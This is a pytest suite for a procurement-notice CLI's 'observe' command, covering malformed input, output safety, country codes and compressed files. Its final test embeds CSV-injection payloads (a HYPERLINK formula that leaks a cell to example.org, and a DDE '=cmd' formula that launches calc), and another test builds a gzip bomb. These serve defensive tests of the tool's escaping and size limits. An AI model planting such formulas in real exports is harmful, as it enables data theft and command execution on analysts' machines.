"""`observe` on imperfect input and in a crowded --out: a bad line of JSON Lines costs that line only, the
releases of one contracting process are one notice, a buyer is one spelling in every output, outputs
that appear during a run are not replaced, and the options --out, --lang and --country."""

from __future__ import annotations

import copy
import csv
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from sociaalaankopen.cli import cli
from sociaalaankopen.errors import ObserveError
from sociaalaankopen.observe import observe

NOTICES = Path(__file__).parent / "data" / "observe" / "notices"
RELEASE = json.loads((NOTICES / "ocds-213czf-000-00001-02-tender.json").read_text("utf-8"))["releases"][0]


def run(*args: str, env: dict[str, str] | None = None) -> Any:
    return CliRunner().invoke(cli, ["observe", *args], catch_exceptions=False, env=env)


def summary(out: Path) -> dict[str, Any]:
    return dict(json.loads((out / "summary.json").read_text("utf-8")))


def rows(out: Path) -> list[dict[str, str]]:
    with (out / "notices.csv").open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def errors(result: Any) -> list[str]:
    return [line for line in result.stderr.splitlines() if line.startswith("error:")]


@pytest.fixture(autouse=True)
def _messages_in_english(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOCIAALAANKOPEN_LANG", "en")


def release(ocid: str, **changes: Any) -> dict[str, Any]:
    found = copy.deepcopy(RELEASE)
    found["ocid"] = ocid
    found.update(changes)
    return found


def six_releases_and(bad: str) -> str:
    """Lines 1-5 and 7: six releases of six processes; line 6: `bad`."""
    lines = [json.dumps(release(f"ocds-x-{n}")) for n in range(5)]
    return "\n".join([*lines, bad, json.dumps(release("ocds-x-9"))]) + "\n"


@pytest.mark.parametrize(
    ("bad", "problem"),
    [
        ("{bad", "is not valid JSON: Expecting property name enclosed in double quotes (column 2)"),
        ("[1,2]", "is JSON but not OCDS (no releases, records or ocid)"),
        (json.dumps({"ocid": "ocds-x-7", "tag": ["award"]}), "has no release with a tender section"),
    ],
)
def test_a_bad_line_of_json_lines_skips_that_line_only(tmp_path: Path, bad: str, problem: str) -> None:
    source = tmp_path / "six.jsonl"
    source.write_text(six_releases_and(bad), "utf-8")
    result = run(str(source), "--out", str(tmp_path / "o"))
    assert result.exit_code == 3
    assert len(errors(result)) == 1 and errors(result)[0].startswith(f"error: {source}:6: {problem}")
    assert "Traceback" not in result.output
    data = summary(tmp_path / "o")
    assert (data["notices"], data["skipped"]) == (6, 1)
    assert [r["id"] for r in rows(tmp_path / "o")] == [f"ocds-x-{n}" for n in (0, 1, 2, 3, 4, 9)]
    assert [r["file"] for r in rows(tmp_path / "o")] == [f"{source}:{n}" for n in (1, 2, 3, 4, 5, 7)]


def test_releases_of_one_process_are_one_notice_in_json_lines_as_in_a_package(tmp_path: Path) -> None:
    award = release(RELEASE["ocid"], id="award-1", tag=["award"], date="2099-01-01T00:00:00Z")
    del award["tender"]
    other = release("ocds-x-other")
    lines = tmp_path / "process.jsonl"
    lines.write_text("\n".join(json.dumps(r) for r in (RELEASE, other, award)) + "\n", "utf-8")
    package = tmp_path / "process.json"
    package.write_text(json.dumps({"uri": "x", "releases": [RELEASE, other, award]}), "utf-8")
    assert run(str(lines), "--out", str(tmp_path / "lines")).exit_code == 0
    assert run(str(package), "--out", str(tmp_path / "package")).exit_code == 0
    from_lines, from_package = rows(tmp_path / "lines"), rows(tmp_path / "package")
    assert [r["id"] for r in from_lines] == [RELEASE["ocid"], "ocds-x-other"]
    assert [{k: v for k, v in r.items() if k != "file"} for r in from_lines] == [
        {k: v for k, v in r.items() if k != "file"} for r in from_package
    ]
    assert summary(tmp_path / "lines")["notices"] == summary(tmp_path / "package")["notices"] == 2


def test_a_buyer_is_one_spelling_in_every_output(tmp_path: Path) -> None:
    """TED XML breaks and indents long names; the CSV and the summary count the buyer under one name."""
    raw = (NOTICES / "020052-2017.xml").read_text("utf-8")
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.xml").write_text(raw, "utf-8")
    broken = raw.replace("<OFFICIALNAME>Region Nordjylland<", "<OFFICIALNAME>Region\n        Nordjylland <", 1)
    broken = broken.replace('DOC_ID="020052-2017"', 'DOC_ID="020053-2017"')  # another notice of that buyer
    assert broken != raw
    (folder / "b.xml").write_text(broken, "utf-8")
    assert run(str(folder), "--out", str(tmp_path / "o")).exit_code == 0
    assert [r["buyer"] for r in rows(tmp_path / "o")] == ["Region Nordjylland", "Region Nordjylland"]
    assert summary(tmp_path / "o")["by_buyer"]["Region Nordjylland (DK)"]["notices"] == 2


@pytest.mark.parametrize("appeared", ["notices.csv", "summary.json"])
def test_outputs_that_appear_during_a_run_are_not_replaced(tmp_path: Path, appeared: str) -> None:
    out = tmp_path / "out"

    def another_run_finishes() -> None:
        out.mkdir(exist_ok=True)
        if not (out / appeared).exists():
            (out / appeared).write_text("the other run's", "utf-8")

    with pytest.raises(ObserveError) as e:
        observe([NOTICES], out, on_notice=another_run_finishes)
    assert e.value.lines() == [f"{out / appeared}: already exists (pass --force to replace it or choose another --out)"]
    assert [p.name for p in out.iterdir()] == [appeared]  # nothing of this run stays, not even notices.csv
    assert (out / appeared).read_text("utf-8") == "the other run's"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]  # no staging folder left behind
    observe([NOTICES], out, on_notice=another_run_finishes, force=True)
    assert summary(out)["notices"] == len(list(NOTICES.iterdir()))


def test_out_that_is_a_file_is_one_error_line(tmp_path: Path) -> None:
    afile = tmp_path / "afile"
    afile.write_text("x", "utf-8")
    result = run(str(NOTICES), "--out", str(afile))
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [f"error: {afile}: is a file (give a folder with --out)"]


def test_observe_takes_lang_as_every_command_does(tmp_path: Path) -> None:
    missing = tmp_path / "missing.xml"
    result = run(str(missing), "--out", str(tmp_path / "o"), "--lang", "fr", env={"SOCIAALAANKOPEN_LANG": "en"})
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [f"error: {missing}: n'existe pas (vérifiez le chemin)"]
    result = run(str(missing), "--out", str(tmp_path / "o"), "--lang", "en")
    assert result.stderr.splitlines() == [f"error: {missing}: does not exist (check the path)"]


def test_country_must_be_a_country_code(tmp_path: Path) -> None:
    result = run(str(NOTICES), "--out", str(tmp_path / "o"), "--country", "XX", "--country", "BE")
    assert result.exit_code == 1
    (line,) = result.stderr.splitlines()
    assert line.startswith("error: --country: 'XX' is not a country code (use one of AL, AT, BA, BE, BG, CH,")
    assert not (tmp_path / "o").exists()
    # Any ISO 3166 code is a country (OCDS is published worldwide), and TED's UK and EL are read as GB and GR.
    for code in ("PY", "uk", "EL", "xk"):
        assert run(str(NOTICES), "--out", str(tmp_path / code), "--country", code).exit_code == 0


def test_kosovo_as_ted_writes_it_is_xk(tmp_path: Path) -> None:
    """TED writes Kosovo as 1A; the report showed '1A', and --country XK left the notice out."""
    raw = (NOTICES / "020052-2017.xml").read_text("utf-8")
    assert '<ISO_COUNTRY VALUE="DK"/>' in raw
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "k.xml").write_text(raw.replace('<ISO_COUNTRY VALUE="DK"/>', '<ISO_COUNTRY VALUE="1A"/>'), "utf-8")
    result = run(str(folder), "--out", str(tmp_path / "o"), "--country", "XK")
    assert result.exit_code == 0, result.stderr
    assert [r["country"] for r in rows(tmp_path / "o")] == ["XK"]
    assert list(summary(tmp_path / "o")["by_country"]) == ["XK"]


@pytest.mark.parametrize("content", ["nothing", "other files"])
def test_inputs_without_notices_are_an_error_not_an_empty_report(tmp_path: Path, content: str) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    if content == "other files":
        (folder / "notes.txt").write_text("geen aankondiging", "utf-8")
        (folder / "notice.pdf").write_bytes(b"%PDF-1.4")
    result = run(str(folder), "--out", str(tmp_path / "o"), "--lang", "en")
    assert result.exit_code == 1
    assert errors(result) == [
        f"error: {folder}: holds no notices (give .xml, .json or .jsonl notices (also as .gz) or archives of "
        "them (.zip, .tar.gz, .tar.xz))"
    ]
    assert not (tmp_path / "o").exists()


def test_a_link_to_a_file_that_is_gone_is_named(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.xml").write_bytes((NOTICES / "020052-2017.xml").read_bytes())
    (folder / "broken.xml").symlink_to(tmp_path / "gone.xml")
    result = run(str(folder), "--out", str(tmp_path / "o"), "--lang", "en")
    assert result.exit_code == 3
    assert len(errors(result)) == 1 and "broken.xml: cannot be read" in errors(result)[0], result.stderr
    assert summary(tmp_path / "o")["notices"] == 1


def test_a_notice_compressed_on_its_own_is_read(tmp_path: Path) -> None:
    import gzip

    folder = tmp_path / "in"
    folder.mkdir()
    raw = (NOTICES / "020052-2017.xml").read_bytes()
    (folder / "notice.xml.gz").write_bytes(gzip.compress(raw))
    (folder / "gzip-named-xml.xml").write_bytes(gzip.compress(raw.replace(b"020052-2017", b"020053-2017")))
    result = run(str(folder), "--out", str(tmp_path / "o"), "--lang", "en")
    assert result.exit_code == 3
    assert errors(result) == [
        f"error: {folder / 'gzip-named-xml.xml'}: is compressed with gzip, not XML (unpack it first (gunzip), "
        "or name it .xml.gz for observe)"
    ]
    assert [r["id"] for r in rows(tmp_path / "o")] == ["020052-2017"]


def test_a_compressed_notice_is_read_no_further_than_the_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import gzip

    from sociaalaankopen.observe import inputs

    monkeypatch.setattr(inputs, "MAX_BYTES", 1000)
    (tmp_path / "bomb.xml.gz").write_bytes(gzip.compress(b"<a>" + b" " * 10_000_000 + b"</a>"))
    found = list(inputs.walk([tmp_path]))
    assert [item.kind for item in found] == ["error"] and "is larger than" in found[0].payload.message


def test_an_eforms_result_notice_without_bt_71_cannot_declare() -> None:
    from sociaalaankopen.readers.eforms import parse_xml, read_eforms_notice

    raw = (NOTICES / "cn_24_maximal.xml").read_text("utf-8")
    notice = read_eforms_notice(parse_xml(raw.encode(), "cn"), "cn", lambda p: None)
    assert notice.kind == "contract-notice" and notice.can_declare
    result = raw.replace('listName="competition">cn-standard<', 'listName="result">can-standard<')
    without = result.replace('listName="reserved-procurement"', 'listName="other"')
    without = without.replace('listName="reserved-execution"', 'listName="other"')
    notice = read_eforms_notice(parse_xml(result.encode(), "can"), "can", lambda p: None)
    assert notice.kind == "award" and notice.can_declare  # it states BT-71
    notice = read_eforms_notice(parse_xml(without.encode(), "can"), "can", lambda p: None)
    assert notice.kind == "award" and not notice.can_declare


def test_text_that_excel_would_run_as_a_formula_is_kept_as_text_in_notices_csv(tmp_path: Path) -> None:
    """A notice is someone else's text: a title or a buyer's name that starts with = + - @ (or a tab) would be
    a live formula when an analyst opens notices.csv in Excel (CSV injection). The cell starts with a ' so that
    Excel shows it as text; summary.json and the report keep the text as published."""
    folder = tmp_path / "in"
    folder.mkdir()
    titles = {
        "ocds-x-1": '=HYPERLINK("http://example.org/?"&A1,"klik")',
        "ocds-x-2": "+32 2 555 00 00",
        "ocds-x-3": "-2+3",
        "ocds-x-4": "@SUM(1+1)",
        "ocds-x-5": "\t=1+1",  # the reader trims the tab: still a formula
        "ocds-x-6": "Schoonmaak = netheid",
    }
    lines = []
    for ocid, title in titles.items():
        found = release(ocid)
        found["tender"] = {**found["tender"], "title": title}
        found["buyer"] = {**found.get("buyer", {}), "name": "=cmd|' /C calc'!A0" if ocid == "ocds-x-1" else "Stad"}
        lines.append(json.dumps(found))
    (folder / "releases.jsonl").write_text("\n".join(lines) + "\n", "utf-8")
    assert run(str(folder), "--out", str(tmp_path / "o")).exit_code == 0
    by_id = {r["id"]: r for r in rows(tmp_path / "o")}
    assert {ocid: by_id[ocid]["title"] for ocid in titles} == {
        "ocds-x-1": "'" + titles["ocds-x-1"],
        "ocds-x-2": "'+32 2 555 00 00",
        "ocds-x-3": "'-2+3",
        "ocds-x-4": "'@SUM(1+1)",
        "ocds-x-5": "'=1+1",
        "ocds-x-6": "Schoonmaak = netheid",
    }
    assert by_id["ocds-x-1"]["buyer"] == "'=cmd|' /C calc'!A0"
    assert by_id["ocds-x-2"]["buyer"] == "Stad"
    data = summary(tmp_path / "o")
    assert any(key.startswith("=cmd|") for key in data["by_buyer"])
